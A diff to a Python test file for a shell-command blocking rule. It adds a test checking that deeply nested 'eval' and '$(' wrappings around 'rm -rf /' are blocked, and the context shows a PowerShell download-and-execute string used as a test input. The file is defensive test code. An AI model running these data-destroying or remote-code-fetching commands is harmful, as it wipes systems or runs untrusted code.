@@ -63,6 +63,12 @@ def test_fetched_code_is_blocked(text: str) -> None:
     assert level(RULE, script(text)) == "block"
 
 
+def test_what_is_wrapped_too_deep_to_be_read() -> None:
+    assert level(RULE, script("eval " * 30 + "rm -rf /")) == "block"
+    assert level(RULE, script("$(" * 40 + "echo rm" + ")" * 40 + " -rf /")) == "block"
+    assert level(RULE, script("env nice nohup timeout 5 webctl restart")) == "quiet"
+
+
 def test_powershell() -> None:
     for text in (
         "iex (New-Object Net.WebClient).DownloadString('http://x')",
